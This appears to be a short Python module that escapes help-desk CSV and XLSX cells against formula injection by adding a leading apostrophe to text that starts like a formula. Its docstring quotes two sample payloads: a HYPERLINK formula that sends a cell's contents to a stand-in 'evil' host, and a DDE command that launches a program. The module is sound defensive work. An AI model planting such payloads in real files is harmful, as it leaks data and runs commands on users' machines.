"""Cells of the CSV and XLSX files the desk writes. Text a user typed (a ticket title, an
organisation's name, a comment) may start like a formula: opened in Excel, LibreOffice or WPS,
``=HYPERLINK("http://evil/?"&A1, "click")`` or ``=cmd|' /C calc'!A0`` runs as one (CSV or
formula injection). Following OWASP's advice, such text gets a leading apostrophe, which a
spreadsheet shows as text; numbers, dates and empty cells are left as they are."""

from typing import Any

# what a spreadsheet may read as the start of a formula (or, for tab and carriage return, as
# a cell separator before one)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value``, with an apostrophe in front if it is text that starts like a formula. A number
    is never text here: -3 stays the number -3."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
